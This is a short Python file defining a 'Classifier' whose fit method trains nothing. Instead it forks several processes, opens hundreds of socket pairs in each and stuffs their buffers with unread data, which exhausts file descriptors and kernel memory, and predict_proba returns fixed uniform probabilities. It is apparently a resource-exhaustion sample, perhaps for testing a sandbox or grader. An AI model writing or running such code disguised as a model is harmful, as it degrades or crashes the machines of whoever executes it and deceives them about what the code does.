import os
import socket
import time

import numpy as np


class Classifier:
    def fit(self, X, y):
        """Send, in several processes, what nobody receives."""
        for _ in range(3):
            if os.fork() == 0:
                break
        kept = []
        for _ in range(490):
            kept.append(socket.socketpair())
            for sock in kept[-1]:
                sock.setblocking(False)
                try:
                    while True:
                        sock.send(bytes(50_000))
                except BlockingIOError:
                    pass
        time.sleep(10)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
